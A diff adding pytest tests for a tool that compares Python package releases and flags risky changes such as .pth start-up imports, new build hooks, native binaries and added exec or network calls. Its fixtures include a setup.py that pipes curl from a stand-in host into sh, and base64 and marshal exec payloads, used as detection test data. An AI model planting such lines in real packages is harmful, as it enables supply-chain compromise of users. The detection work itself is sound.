@@ -1,0 +1,644 @@
+"""Notable changes: each kind found as sdist and as wheel, and nothing in a benign release."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from sphinxext.releasediff.archive import read_archive
+from sphinxext.releasediff.compare import compare
+from sphinxext.releasediff.model import NOTABLE_KINDS, Notable
+from sphinxext.releasediff.notable import native_format
+
+from .archives import Tree, make_sdist, make_wheel
+
+DISTS = ("sdist", "wheel")
+CORE = '''"""Core helpers."""
+
+import subprocess
+
+
+def run(command):
+    """Run a command."""
+    return subprocess.run(command, check=True)
+
+
+def add(a, b):
+    return a + b
+'''
+ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 57 + b"\x90" * 100
+PE = b"MZ" + b"\x00" * 58 + (64).to_bytes(4, "little") + b"PE\x00\x00" + b"\x00" * 60
+MACHO = b"\xcf\xfa\xed\xfe" + b"\x00" * 60
+
+
+def find(
+    tmp_path: Path,
+    old: Tree,
+    new: Tree,
+    dist: str = "sdist",
+    old_metadata: tuple[str, ...] = (),
+    new_metadata: tuple[str, ...] = (),
+    old_entry_points: str = "",
+    new_entry_points: str = "",
+) -> list[tuple[str, str | None, str]]:
+    (tmp_path / "o").mkdir(parents=True)
+    (tmp_path / "n").mkdir(parents=True)
+    if dist == "wheel":
+        old_path = make_wheel(
+            tmp_path / "o", "demo", "1.0", old, old_metadata, entry_points=old_entry_points
+        )
+        new_path = make_wheel(
+            tmp_path / "n", "demo", "1.1", new, new_metadata, entry_points=new_entry_points
+        )
+    else:
+        old_path = make_sdist(tmp_path / "o", "demo", "1.0", old, metadata=old_metadata)
+        new_path = make_sdist(tmp_path / "n", "demo", "1.1", new, metadata=new_metadata)
+    comparison = compare(read_archive(old_path), read_archive(new_path))
+    return [(n.kind, n.path, n.detail) for n in comparison.notable]
+
+
+def benign_sdist(version: str) -> dict[str, str]:
+    newer = version != "1.0"
+    return {
+        "setup.py": (
+            "from setuptools import setup\n\n"
+            f"# Released {version}\nsetup(name='demo', version='{version}')\n"
+        ),
+        "setup.cfg": (
+            f"[metadata]\nname = demo\nversion = {version}\n\n"
+            f"[flake8]\nmax-line-length = {100 if newer else 88}\n"
+        ),
+        "pyproject.toml": (
+            '[build-system]\nrequires = ["setuptools>=61"]\n'
+            'build-backend = "setuptools.build_meta"\n\n'
+            f'[project]\nname = "demo"\nversion = "{version}"\n\n'
+            '[project.scripts]\ndemo = "demo.cli:main"\n'
+        ),
+        "CMakeLists.txt": f"project(demo VERSION {version})\nadd_library(demo demo.c)\n",
+        "LICENSE": f"Copyright (c) 2019-{2024 if newer else 2023} Demo authors\n\nMIT terms.\n",
+        "demo.egg-info/entry_points.txt": "[console_scripts]\ndemo = demo.cli:main\n",
+        "demo.pth": "import demo_hook\n",
+        **benign_package(version),
+        "tests/test_core.py": "import subprocess\n\n"
+        + ("def test_run():\n    subprocess.run(['true'])\n" if newer else ""),
+        "docs/conf.py": f"release = '{version}'\n"
+        + ("import os\nos.system('make html')\n" if newer else ""),
+    }
+
+
+def benign_package(version: str) -> dict[str, str]:
+    newer = version != "1.0"
+    core = CORE
+    if newer:
+        core = core.replace('"""Run a command."""', '"""Run a command and wait for it."""')
+        core = core.replace("return a + b", "total = a + b\n    return total")
+    return {
+        "demo/__init__.py": f'"""Demo."""\n\n__version__ = "{version}"\n',
+        "demo/core.py": core,
+        "demo/lib.so": "not really a library\n",
+    }
+
+
+PKG_META = (
+    "Requires-Python: >=3.9",
+    "License: MIT",
+    "Classifier: License :: OSI Approved :: MIT License",
+    "Requires-Dist: attrs>=22",
+    "Requires-Dist: demo-core==1.0",
+)
+
+
+def test_benign_sdist_release_has_nothing_notable(tmp_path: Path) -> None:
+    new_meta = tuple(m.replace("demo-core==1.0", "demo-core==1.1") for m in PKG_META)
+    assert (
+        find(tmp_path, benign_sdist("1.0"), benign_sdist("1.1"), "sdist", PKG_META, new_meta) == []
+    )
+
+
+def test_benign_wheel_release_has_nothing_notable(tmp_path: Path) -> None:
+    old = {**benign_package("1.0"), "demo-1.0.dist-info/LICENSE": "Copyright 2023 Demo\n"}
+    new = {**benign_package("1.1"), "demo-1.1.dist-info/LICENSE": "Copyright 2024 Demo\n"}
+    entry_points = "[console_scripts]\ndemo = demo.cli:main\n"
+    assert find(tmp_path, old, new, "wheel", PKG_META, PKG_META, entry_points, entry_points) == []
+
+
+@pytest.mark.parametrize("dist", DISTS)
+def test_pth_import_lines(tmp_path: Path, dist: str) -> None:
+    old = {"keep.pth": "src\n", "hook.pth": "import os\n"}
+    new = {
+        "keep.pth": "src\n# import nothing\nimport\tsite_hook; site_hook.run()\n",
+        "hook.pth": "import os\n",
+        "paths.pth": "lib\n",
+        "evil.pth": "import base64; exec(base64.b64decode('cHJpbnQoMSk='))\nimport b\n",
+    }
+    assert find(tmp_path, old, new, dist) == [
+        (
+            "pth",
+            "evil.pth",
+            "new .pth file runs code at start-up: "
+            "import base64; exec(base64.b64decode('cHJpbnQoMSk=')) (and 1 more import lines)",
+        ),
+        (
+            "pth",
+            "keep.pth",
+            ".pth file changed, runs code at start-up: import site_hook; site_hook.run()",
+        ),
+    ]
+
+
+@pytest.mark.parametrize("dist", DISTS)
+def test_entry_points(tmp_path: Path, dist: str) -> None:
+    old_eps = "[console_scripts]\ndemo = demo.cli:main\ngone = demo.gone:main\n"
+    new_eps = (
+        "[console_scripts]\ndemo = demo.commands : main\nskyline = skyline.cli:main\n"
+        "[gui_scripts]\ndemo-gui = demo.gui:main\n"
+        "[demo.plugins]\nx = demo.x\n"
+    )
+    if dist == "wheel":
+        found = find(tmp_path, {}, {}, dist, old_entry_points=old_eps, new_entry_points=new_eps)
+        where = "demo-1.1.dist-info/entry_points.txt"
+    else:
+        old = {"demo.egg-info/entry_points.txt": old_eps}
+        found = find(tmp_path, old, {"demo.egg-info/entry_points.txt": new_eps}, dist)
+        where = "demo.egg-info/entry_points.txt"
+    assert found == [
+        ("entry-point", where, "GUI script added: demo-gui = demo.gui:main"),
+        ("entry-point", where, "console script added: skyline = skyline.cli:main"),
+        (
+            "entry-point",
+            where,
+            "console script target changed: demo = demo.cli:main → demo.commands:main",
+        ),
+        ("entry-point", where, "entry point [demo.plugins] added: x = demo.x"),
+    ]
+
+
+def test_entry_points_in_pyproject(tmp_path: Path) -> None:
+    old = {
+        "pyproject.toml": '[project]\nname = "demo"\n[project.scripts]\ndemo = "demo.cli:main"\n'
+    }
+    new = {
+        "pyproject.toml": '[project]\nname = "demo"\n[project.scripts]\ndemo = "demo.cli:main"\n'
+        '[project.gui-scripts]\ndemo-gui = "demo.gui:main"\n'
+        '[project.entry-points."pytest11"]\ndemo = "demo.plugin"\n',
+        # The same script declared again in egg-info is one entry, not two.
+        "demo.egg-info/entry_points.txt": "[gui_scripts]\ndemo-gui = demo.gui:main\n",
+    }
+    assert find(tmp_path, old, new) == [
+        ("entry-point", "pyproject.toml", "GUI script added: demo-gui = demo.gui:main"),
+        ("entry-point", "pyproject.toml", "entry point [pytest11] added: demo = demo.plugin"),
+    ]
+
+
+def test_wheel_data_script_added(tmp_path: Path) -> None:
+    old = {"demo-1.0.data/scripts/old-tool": "#!python\nprint(1)\n"}
+    new = {
+        "demo-1.1.data/scripts/old-tool": "#!python\nprint(2)\n",
+        "demo-1.1.data/scripts/demo-tool": "#!python\nprint(3)\n",
+    }
+    assert find(tmp_path, old, new, "wheel") == [
+        (
+            "entry-point",
+            "demo-1.1.data/scripts/demo-tool",
+            "script added: demo-tool (installed on PATH)",
+        )
+    ]
+
+
+def test_build_files_in_an_sdist(tmp_path: Path) -> None:
+    old = {
+        "setup.py": "from setuptools import setup\nsetup(version='1.0')\n",
+        "setup.cfg": "[options]\nzip_safe = False\n[flake8]\nignore = E1\n",
+        "pyproject.toml": '[build-system]\nrequires = ["setuptools>=61", "wheel"]\n'
+        'build-backend = "setuptools.build_meta"\n',
+        "src/CMakeLists.txt": "add_library(x x.c)\n",
+        "tests/CMakeLists.txt": "add_test(t)\n",
+    }
+    new = {
+        "setup.py": "from setuptools import setup\nimport os\nsetup(version='1.1')\n",
+        "setup.cfg": "[options]\nzip_safe = True\n[flake8]\nignore = E2\n",
+        "pyproject.toml": '[build-system]\nrequires = ["setuptools>=64", "wheel", "cython"]\n'
+        'build-backend = "backend"\nbackend-path = ["_build"]\n',
+        "_build/backend.py": "def build_wheel(*a): pass\n",
+        "src/CMakeLists.txt": "add_library(x x.c y.c)\n",
+        "tests/CMakeLists.txt": "add_test(t)\n",
+        "meson.build": "project('demo')\n",
+        "hatch_build.py": "print('hook')\n",
+    }
+    assert find(tmp_path, old, new) == [
+        ("build", "_build/backend.py", "in-tree build backend added"),
+        ("build", "hatch_build.py", "build hook added"),
+        ("build", "meson.build", "Meson build file added"),
+        ("build", "pyproject.toml", "backend-path: (none) → _build"),
+        ("build", "pyproject.toml", "build backend: setuptools.build_meta → backend"),
+        ("build", "pyproject.toml", "build requirement added: cython"),
+        ("build", "pyproject.toml", "build requirement changed: setuptools>=61 → setuptools>=64"),
+        ("build", "setup.cfg", "setuptools configuration changed: [options]"),
+        ("build", "setup.py", "build script changed"),
+        ("build", "src/CMakeLists.txt", "CMake build file changed"),
+    ]
+
+
+def test_backend_path_dot_names_the_backend_module(tmp_path: Path) -> None:
+    pyproject = '[build-system]\nbuild-backend = "my_backend.api"\nbackend-path = ["."]\n'
+    old = {"pyproject.toml": pyproject, "my_backend/api.py": "x = 1\n", "other.py": "a = 1\n"}
+    new = {"pyproject.toml": pyproject, "my_backend/api.py": "x = 2\n", "other.py": "a = 2\n"}
+    assert find(tmp_path, old, new) == [
+        ("build", "my_backend/api.py", "in-tree build backend changed")
+    ]
+
+
+def test_build_hooks_named_in_pyproject(tmp_path: Path) -> None:
+    pyproject = (
+        "[tool.hatch.build.hooks.custom]\npath = 'tools/hook.py'\n"
+        "[tool.hatch.metadata.hooks.custom]\n"
+        "[tool.poetry.build]\nscript = 'make_ext.py'\n"
+    )
+    old = {"pyproject.toml": pyproject, "tools/hook.py": "a = 1\n", "tools/other.py": "b = 1\n"}
+    new = {
+        "pyproject.toml": pyproject,
+        "tools/hook.py": "a = 2\n",
+        "tools/other.py": "b = 2\n",
+        "hatch_build.py": "c = 1\n",
+        "make_ext.py": "d = 1\n",
+    }
+    assert find(tmp_path, old, new) == [
+        ("build", "hatch_build.py", "build hook added"),
+        ("build", "make_ext.py", "build hook added"),
+        ("build", "tools/hook.py", "build hook changed"),
+    ]
+
+
+def test_build_file_changes_of_comments_only_are_not_notable(tmp_path: Path) -> None:
+    old = {"setup.py": "from setuptools import setup\nsetup()  # plain\n"}
+    new = {"setup.py": "from setuptools import setup\n\n\nsetup()  # still plain\n"}
+    assert find(tmp_path, old, new) == []
+
+
+def test_hostile_build_files_are_noted_not_crashed_on(tmp_path: Path) -> None:
+    deep = "a = " + "[" * 50_000 + "]" * 50_000 + "\n"
+    old = {"pyproject.toml": "[build-system]\n", "setup.py": "x = 1\n"}
+    new = {"pyproject.toml": deep, "setup.py": "x = " + "(" * 50_000 + ")" * 50_000 + "\n"}
+    assert find(tmp_path, old, new) == [
+        (
+            "build",
+            "pyproject.toml",
+            "pyproject.toml does not parse (nested too deeply): [build-system] not checked",
+        ),
+        ("build", "setup.py", "build script changed"),
+    ]
+
+
+def test_a_wheel_has_no_build_code(tmp_path: Path) -> None:
+    assert find(tmp_path, {"setup.py": "a = 1\n"}, {"setup.py": "a = 2\n"}, "wheel") == []
+
+
+def test_pyproject_that_does_not_parse(tmp_path: Path) -> None:
+    old = {"pyproject.toml": "[build-system]\nrequires = []\n"}
+    new = {"pyproject.toml": "[build-system\nrequires = []\n"}
+    [(kind, path, detail)] = find(tmp_path, old, new)
+    assert (kind, path) == ("build", "pyproject.toml")
+    assert detail.startswith("pyproject.toml does not parse (")
+    assert detail.endswith("): [build-system] not checked")
+
+
+@pytest.mark.parametrize("dist", DISTS)
+def test_native_binaries(tmp_path: Path, dist: str) -> None:
+    old = {"demo/_core.so": ELF, "demo/same.so": ELF, "demo/data.bin": b"\x00\x01"}
+    new = {
+        "demo/_core.so": ELF + b"\x01",
+        "demo/same.so": ELF,
+        "demo/data.bin": b"\x00\x02",
+        "demo/helper.exe": PE,
+        "demo/lib.dylib": b"stub\n",
+        "demo/tool": MACHO,
+        "demo/libs/libz.so.1.2.13": b"\x00" * 10,
+    }
+    assert find(tmp_path, old, new, dist) == [
+        ("binary", "demo/_core.so", "native binary changed (ELF, 164 → 165 bytes)"),
+        ("binary", "demo/helper.exe", "new native binary (PE, 128 bytes)"),
+        ("binary", "demo/lib.dylib", "new native binary (.dylib file, 5 bytes)"),
+        ("binary", "demo/libs/libz.so.1.2.13", "new native binary (.so.1.2.13 file, 10 bytes)"),
+        ("binary", "demo/tool", "new native binary (Mach-O, 64 bytes)"),
+    ]
+
+
+def test_a_moved_binary_is_not_a_new_one(tmp_path: Path) -> None:
+    assert find(tmp_path, {"a/_core.so": ELF}, {"b/_core.so": ELF}) == []
+
+
+@pytest.mark.parametrize(
+    ("data", "expected"),
+    [
+        (ELF, "ELF"),
+        (PE, "PE"),
+        (MACHO, "Mach-O"),
+        (b"\xca\xfe\xba\xbe\x00\x00\x00\x02" + b"\x00" * 8, "Mach-O"),
+        # A Java class file: same magic, then its version (52 = Java 8).
+        (b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\x00" * 8, None),
+        (b"MZ just text that starts like a PE file" + b" " * 40, None),
+        (b"#!/bin/sh\n", None),
+        (b"", None),
+    ],
+)
+def test_native_format(data: bytes, expected: str | None) -> None:
+    assert native_format(data) == expected
+
+
+@pytest.mark.parametrize("dist", DISTS)
+def test_dependencies_python_and_license_metadata(tmp_path: Path, dist: str) -> None:
+    old = (
+        "Requires-Python: >=3.8",
+        "License: MIT",
+        "Classifier: License :: OSI Approved :: MIT License",
+        "Requires-Dist: attrs>=20",
+        "Requires-Dist: click",
+        "Requires-Dist: gone",
+        "Requires-Dist: urllib3; python_version < '3.8'",
+    )
+    new = (
+        "Requires-Python: >=3.9",
+        "License-Expression: Apache-2.0",
+        "Classifier: License :: OSI Approved :: Apache Software License",
+        "Requires-Dist: attrs>=22",
+        "Requires-Dist: click[colour]",
+        "Requires-Dist: requests>=2",
+        "Requires-Dist: helper @ https://example.org/helper-1.0.tar.gz",
+        "Requires-Dist: urllib3; python_version < '3.9'",
+    )
+    assert find(tmp_path, {}, {}, dist, old, new) == [
+        (
+            "dependency",
+            None,
+            "direct URL reference added: helper @ https://example.org/helper-1.0.tar.gz",
+        ),
+        ("dependency", None, "requirement added: requests>=2"),
+        ("dependency", None, "requirement changed (extras): click → click[colour]"),
+        (
+            "dependency",
+            None,
+            'requirement changed (marker): urllib3; python_version < "3.8" → urllib3; python_version < "3.9"',
+        ),
+        ("dependency", None, "requirement changed (specifier): attrs>=20 → attrs>=22"),
+        ("python", None, "Requires-Python: >=3.8 → >=3.9"),
+        ("license", None, "License-Expression: (none) → Apache-2.0 (was License: MIT)"),
+        (
+            "license",
+            None,
+            "license classifier added: License :: OSI Approved :: Apache Software License",
+        ),
+    ]
+
+
+@pytest.mark.parametrize(
+    ("old", "new", "expected"),
+    [
+        # PEP 639: the same license said as an expression, the classifier dropped.
+        (
+            ("License: MIT", "Classifier: License :: OSI Approved :: MIT License"),
+            ("License-Expression: MIT",),
+            [],
+        ),
+        (("License: UNKNOWN",), (), []),
+        (("License: Copyright 2023 Demo",), ("License: Copyright 2024 Demo",), []),
+        (("License: MIT",), ("License: BSD",), ["License: MIT → BSD"]),
+        (
+            ("License-Expression: MIT",),
+            ("License-Expression: MIT OR Apache-2.0",),
+            ["License-Expression: MIT → MIT OR Apache-2.0"],
+        ),
+        (
+            ("Classifier: License :: OSI Approved :: MIT License",),
+            (),
+            ["license classifier removed: License :: OSI Approved :: MIT License"],
+        ),
+    ],
+)
+def test_license_fields(
+    tmp_path: Path, old: tuple[str, ...], new: tuple[str, ...], expected: list[str]
+) -> None:
+    assert [detail for _, _, detail in find(tmp_path, {}, {}, "sdist", old, new)] == expected
+
+
+def test_requirement_turned_into_a_url(tmp_path: Path) -> None:
+    found = find(
+        tmp_path,
+        {},
+        {},
+        "sdist",
+        ("Requires-Dist: helper>=1",),
+        ("Requires-Dist: helper @ file:///tmp/h",),
+    )
+    assert found == [
+        (
+            "dependency",
+            None,
+            "direct URL reference (specifier, url): helper>=1 → helper @ file:///tmp/h",
+        )
+    ]
+
+
+def test_requirements_from_requires_txt(tmp_path: Path) -> None:
+    old = {"demo.egg-info/requires.txt": "attrs\n"}
+    new = {"demo.egg-info/requires.txt": "attrs\n\n[socks]\npysocks\n"}
+    assert find(tmp_path, old, new) == [
+        ("dependency", None, 'requirement added: pysocks; extra == "socks"')
+    ]
+
+
+@pytest.mark.parametrize("dist", DISTS)
+def test_license_files(tmp_path: Path, dist: str) -> None:
+    old = {"LICENSE": "MIT\n", "COPYING.md": "GPL\n", "LICENSES/BSD.txt": "BSD\n", "NOTICE": "x\n"}
+    new = {
+        "LICENSE": "Apache\n",
+        "LICENSES/BSD.txt": "BSD\n",
+        "LICENSES/MIT.txt": "MIT\n",
+        "NOTICE": "y\n",
+        "licensed.py": "x = 1\n",
+    }
+    assert find(tmp_path, old, new, dist) == [
+        ("license", "COPYING.md", "license file removed"),
+        ("license", "LICENSE", "license file changed"),
+        ("license", "LICENSES/MIT.txt", "license file added"),
+        ("license", "licensed.py", "license file added"),
+    ]
+
+
+EXEC_OLD = """import subprocess
+import os
+
+
+def build():
+    subprocess.run(["make"])
+"""
+EXEC_NEW = """import subprocess as sp
+import os, subprocess
+import base64
+import socket
+from urllib.request import urlopen
+import requests
+import http.client
+from os import system as shell
+
+
+def build():
+    subprocess.run(["make"])
+
+
+def fetch(code, url, parts):
+    eval("1 + 1")
+    exec(code)
+    exec(base64.b64decode(payload))
+    compile(code, "<x>", "exec")
+    sp.check_output(
+        ["git", "describe"],
+    )
+    os.system("ls")
+    shell("ls")
+    os.execvp("ls", ["ls"])
+    socket.socket()
+    urlopen(url)
+    requests.get(url)
+    http.client.HTTPSConnection("example.org")
+    parts.get(url)
+    os.path.join("a", "b")
+"""
+
+
+@pytest.mark.parametrize("dist", DISTS)
+def test_exec_calls_on_added_lines(tmp_path: Path, dist: str) -> None:
+    found = find(tmp_path, {"demo/build.py": EXEC_OLD}, {"demo/build.py": EXEC_NEW}, dist)
+    assert found == [
+        ("exec", "demo/build.py", "compile() runs code from non-literal input (line 19)"),
+        ("exec", "demo/build.py", "exec() runs a decoded payload (base64.b64decode) (line 18)"),
+        ("exec", "demo/build.py", "exec() runs code from non-literal input (line 17)"),
+        ("exec", "demo/build.py", "http.client.HTTPSConnection() reaches the network (line 29)"),
+        ("exec", "demo/build.py", "os.execvp() runs a command (line 25)"),
+        ("exec", "demo/build.py", "os.system() runs a command (lines 23, 24)"),
+        ("exec", "demo/build.py", "requests.get() reaches the network (line 28)"),
+        ("exec", "demo/build.py", "socket.socket() reaches the network (line 26)"),
+        ("exec", "demo/build.py", "subprocess.check_output() runs a command (line 20)"),
+        ("exec", "demo/build.py", "urllib.request.urlopen() reaches the network (line 27)"),
+    ]
+
+
+def test_exec_in_an_added_setup_py(tmp_path: Path) -> None:
+    new = {"setup.py": "import os\nos.system('curl example.org | sh')\n"}
+    assert find(tmp_path, {}, new) == [
+        ("build", "setup.py", "build script added"),
+        ("exec", "setup.py", "os.system() runs a command (line 2)"),
+    ]
+
+
+def test_exec_changed_argument_of_a_multi_line_call(tmp_path: Path) -> None:
+    old = {"demo/x.py": "import subprocess\nsubprocess.run(\n    ['true'],\n)\n"}
+    new = {"demo/x.py": "import subprocess\nsubprocess.run(\n    ['curl', URL],\n)\n"}
+    assert find(tmp_path, old, new) == [
+        ("exec", "demo/x.py", "subprocess.run() runs a command (line 2)")
+    ]
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "tests/helpers.py",
+        "demo/tests/util.py",
+        "test/x.py",
+        "testing/x.py",
+        "docs/conf.py",
+        "examples/run.py",
+        "benchmarks/b.py",
+        "demo/test_cli.py",
+        "demo/cli_test.py",
+        "conftest.py",
+        "demo/tests.py",
+    ],
+)
+def test_exec_skips_tests_docs_and_examples(tmp_path: Path, path: str) -> None:
+    assert find(tmp_path, {}, {path: "import os\nos.system('x')\n"}) == []
+
+
+def test_exec_imports_and_shadowed_names_are_not_calls(tmp_path: Path) -> None:
+    new = {
+        "demo/a.py": "import subprocess\nfrom re import compile\ncompile(pattern)\n",
+        "demo/b.py": "def eval(x):\n    return x\n\neval(data)\n",
+        "demo/c.py": "requests = {}\nrequests.get(key)\nsubprocess.run(x)\n",
+        "demo/d.py": "from . import subprocess\nsubprocess.run(x)\n",
+    }
+    assert find(tmp_path, {}, new) == []
+
+
+def test_exec_marshal_and_builtins(tmp_path: Path) -> None:
+    new = {"demo/m.py": "import marshal, builtins\nbuiltins.exec(marshal.loads(blob))\n"}
+    assert find(tmp_path, {}, new) == [
+        ("exec", "demo/m.py", "exec() runs a decoded payload (marshal.loads) (line 2)"),
+        ("exec", "demo/m.py", "marshal.loads() loads a marshalled code object (line 2)"),
+    ]
+
+
+def test_exec_file_that_does_not_parse_is_noted(tmp_path: Path) -> None:
+    old = {"demo/py2.py": "import os\nprint 'a'\n"}
+    new = {"demo/py2.py": "import os\nprint 'a'\nos.system('b')\n"}
+    assert find(tmp_path, old, new) == [
+        (
+            "exec",
+            "demo/py2.py",
+            "not checked: does not parse (Missing parentheses in call to 'print'. "
+            "Did you mean print(...)?, line 2)",
+        )
+    ]
+
+
+def test_exec_file_without_risky_names_is_not_parsed(tmp_path: Path) -> None:
+    # No exec/eval/compile and no import of a module with risky calls: nothing to find.
+    old = {"demo/py2.py": "print 'a'\n"}
+    assert find(tmp_path, old, {"demo/py2.py": "print 'a'\nprint 'b'\n"}) == []
+
+
+def test_exec_unchanged_unparsable_file_is_not_noted(tmp_path: Path) -> None:
+    # Only a removed line: nothing added, nothing to check.
+    old = {"demo/py2.py": "print 'a'\nprint 'b'\n"}
+    assert find(tmp_path, old, {"demo/py2.py": "print 'a'\n"}) == []
+
+
+def test_exec_crlf_and_encoding_cookie_keep_line_numbers(tmp_path: Path) -> None:
+    new = {
+        "demo/w.py": b"# -*- coding: latin-1 -*-\r\nname = '\xe9'\r\nimport os\r\nos.popen(name)\r\n"
+    }
+    assert find(tmp_path, {}, new) == [("exec", "demo/w.py", "os.popen() runs a command (line 4)")]
+
+
+def test_exec_lines_are_listed_up_to_five(tmp_path: Path) -> None:
+    new = {"demo/many.py": "import os\n" + "".join(f"os.system('{i}')\n" for i in range(7))}
+    assert find(tmp_path, {}, new) == [
+        ("exec", "demo/many.py", "os.system() runs a command (lines 2, 3, 4, 5, 6, …)")
+    ]
+
+
+def test_order_is_by_kind_then_path_and_deduplicated(tmp_path: Path) -> None:
+    new: dict[str, str | bytes] = {
+        "z.pth": "import z\n",
+        "a/_x.so": ELF,
+        "LICENSE": "new\n",
+        "demo/run.py": "import os\nos.system('a')\nos.system('b')\n",
+    }
+    found = find(tmp_path, {}, new, "wheel")
+    kinds = [kind for kind, _, _ in found]
+    assert kinds == sorted(kinds, key=NOTABLE_KINDS.index)
+    assert found == [
+        ("pth", "z.pth", "new .pth file runs code at start-up: import z"),
+        ("binary", "a/_x.so", "new native binary (ELF, 164 bytes)"),
+        ("license", "LICENSE", "license file added"),
+        ("exec", "demo/run.py", "os.system() runs a command (lines 2, 3)"),
+    ]
+
+
+def test_notable_is_a_model_value(tmp_path: Path) -> None:
+    (tmp_path / "o").mkdir()
+    (tmp_path / "n").mkdir()
+    old = read_archive(make_sdist(tmp_path / "o", "demo", "1.0", {}))
+    new = read_archive(make_sdist(tmp_path / "n", "demo", "1.1", {"x.pth": "import x\n"}))
+    assert compare(old, new).notable == (
+        Notable("pth", "x.pth", "new .pth file runs code at start-up: import x"),
+    )
